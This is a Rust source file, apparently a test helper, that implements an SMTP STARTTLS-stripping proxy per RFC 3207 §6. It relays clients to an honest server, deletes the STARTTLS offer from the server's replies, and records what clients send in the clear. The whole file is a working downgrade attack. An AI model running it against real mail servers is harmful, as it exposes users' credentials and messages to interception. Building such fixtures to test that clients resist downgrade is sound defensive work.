//! The attacker on the path: a proxy in front of an honest server that hides its STARTTLS and reads along.
//!
//! Spec: RFC 3207 §6 (the attack).

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread;

use anyhow::Result;

/// A running proxy; it ends with the process.
#[derive(Clone, Debug)]
pub struct Stripper {
    /// What clients said, as far as it was readable.
    overheard: Arc<Mutex<Vec<u8>>>,
}

impl Stripper {
    /// Starts to listen at `address` for mail that is meant for `honest`.
    ///
    /// # Errors
    /// When the address is taken.
    pub fn start(address: Ipv4Addr, honest: Ipv4Addr) -> Result<Self> {
        let stripper = Self { overheard: Arc::default() };
        let listener = TcpListener::bind(SocketAddrV4::new(address, 25))?;
        let listening = stripper.clone();
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let stripper = listening.clone();
                thread::spawn(move || stripper.serve(client, honest));
            }
        });
        Ok(stripper)
    }

    /// Tells whether `text` was said in the clear.
    pub fn overheard(&self, text: &str) -> bool {
        let bytes = self.overheard.lock().unwrap_or_else(PoisonError::into_inner);
        String::from_utf8_lossy(&bytes).contains(text)
    }

    fn serve(&self, client: TcpStream, honest: Ipv4Addr) -> Result<()> {
        let server = TcpStream::connect(SocketAddrV4::new(honest, 25))?;
        let (from_client, to_server) = (client.try_clone()?, server.try_clone()?);
        let reading = self.clone();
        thread::spawn(move || reading.forward(from_client, to_server));
        strip(server, client)
    }

    fn forward(&self, mut from_client: TcpStream, mut to_server: TcpStream) -> Result<()> {
        let mut buffer = [0; 4096];
        loop {
            let length = from_client.read(&mut buffer)?;
            if length == 0 {
                to_server.shutdown(std::net::Shutdown::Write)?;
                return Ok(());
            }
            let bytes = &buffer[..length];
            self.overheard.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(bytes);
            to_server.write_all(bytes)?;
        }
    }
}

/// Passes replies on, without the line that offers STARTTLS.
fn strip(from_server: TcpStream, mut to_client: TcpStream) -> Result<()> {
    let mut replies = BufReader::new(from_server);
    let mut line = Vec::new();
    while replies.read_until(b'\n', &mut line)? > 0 {
        match line.to_ascii_uppercase().as_slice() {
            b"250-STARTTLS\r\n" => {}
            // The last line of a reply must stay, so it says something harmless.
            b"250 STARTTLS\r\n" => to_client.write_all(b"250 8BITMIME\r\n")?,
            _ => to_client.write_all(&line)?,
        }
        line.clear();
    }
    Ok(())
}
